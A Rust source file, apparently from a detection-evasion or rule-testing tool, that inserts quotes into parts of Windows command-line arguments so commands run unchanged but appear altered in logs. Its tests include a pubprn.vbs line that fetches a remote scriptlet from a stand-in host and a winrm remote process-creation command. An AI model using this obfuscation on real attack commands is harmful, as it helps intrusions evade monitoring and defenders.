//! Quotes around parts of words.

use crate::advice::evade::line::{Edit, Line, Program, Shell};
use crate::advice::evade::mutation::{Changes, Mutated, Mutation};

pub const QUOTED_PARTS: Mutation = Mutation {
    name: "quoted_parts",
    title: "Quotes around parts of words",
    why: "Programs split their command line themselves and take quotes out wherever they stand, cmd.exe and the log keep them. winrm.vbs takes them around a whole word or value only.",
    layer: "the program's own splitting",
    source: "https://learn.microsoft.com/en-us/windows/win32/api/shellapi/nf-shellapi-commandlinetoargvw",
    changes: Changes::Nothing,
    apply,
};

fn apply(line: &Line<'_>) -> Vec<Mutated> {
    // A batch file sees quotes in its arguments.
    let takes = matches!(
        line.program,
        Program::ScriptHost | Program::Script | Program::PowerShell | Program::Other
    );
    // More quotes behind a quoted program change which ones `cmd /c` strips.
    let is_safe = line.shell != Shell::Logged || !line.raw(0).starts_with('"');
    if !takes || !is_safe {
        return Vec::new();
    }
    let mut edits = Vec::new();
    for arg in line.plain_args().filter(|&arg| arg > 0) {
        let raw = line.raw(arg);
        // Quotes within the name of a variable would make it another.
        if raw.contains(['"', '%']) {
            continue;
        }
        // It also looks for its own name in the line, so that must stay in one piece.
        let is_winrms = line.is_winrm() && line.script.is_some_and(|script| arg >= script);
        if is_winrms {
            whole(line, arg, &mut edits);
        } else {
            parts(line, arg, &mut edits);
        }
    }
    line.change("", edits).into_iter().collect()
}

/// Quotes all but the first and the last letter of each word of at least three.
fn parts(line: &Line<'_>, arg: usize, edits: &mut Vec<Edit>) {
    let raw = line.raw(arg);
    let start = line.place(arg).start;
    let mut at = 0;
    while at < raw.len() {
        let letters = raw[at..]
            .bytes()
            .take_while(u8::is_ascii_alphanumeric)
            .count();
        if letters >= 3 {
            for quote in [at + 1, at + letters - 1] {
                edits.push((start + quote..start + quote, "\"".to_owned()));
            }
        }
        at += letters.max(raw[at..].chars().next().map_or(1, char::len_utf8));
    }
}

/// Quotes a word, or what follows the colon of a switch, as a whole.
fn whole(line: &Line<'_>, arg: usize, edits: &mut Vec<Edit>) {
    let raw = line.raw(arg);
    let place = line.place(arg);
    let from = match raw.find(':') {
        _ if raw.starts_with("//") => return,
        Some(colon) if raw.starts_with(['-', '/']) => place.start + colon + 1,
        None if raw.starts_with(['-', '/']) => return,
        _ if raw.starts_with('@') => return,
        _ => place.start,
    };
    if from < place.end {
        edits.push((from..from, "\"".to_owned()));
        edits.push((place.end..place.end, "\"".to_owned()));
    }
}

#[cfg(test)]
mod tests {
    use super::super::logged;
    use super::*;

    #[test]
    fn words_are_quoted_in_their_middle() {
        assert_eq!(
            logged(
                &QUOTED_PARTS,
                r"cscript //b C:\tmp\pubprn.vbs 127.0.0.1 script:http://x/é"
            ),
            [r#"cscript //b C:\t"m"p\p"ubpr"n.v"b"s 1"2"7.0.0.1 s"crip"t:h"tt"p://x/é"#]
        );
        assert_eq!(
            logged(
                &QUOTED_PARTS,
                r#"powershell -file "a b.ps1" -VsWherePath x"#
            ),
            [r#"powershell -f"il"e "a b.ps1" -V"sWherePat"h x"#]
        );
        assert_eq!(logged(&QUOTED_PARTS, "pester.bat help"), [""; 0]);
    }

    #[test]
    fn winrm_takes_quotes_around_whole_words() {
        assert_eq!(
            logged(
                &QUOTED_PARTS,
                "winrm invoke Create wmicimv2/Win32_Process -r:http://host -q"
            ),
            [r#"winrm "invoke" "Create" "wmicimv2/Win32_Process" -r:"http://host" -q"#]
        );
        assert_eq!(
            logged(&QUOTED_PARTS, r"cscript //b winrm.vbs get x"),
            [r#"cscript //b "winrm.vbs" "get" "x""#]
        );
    }
}
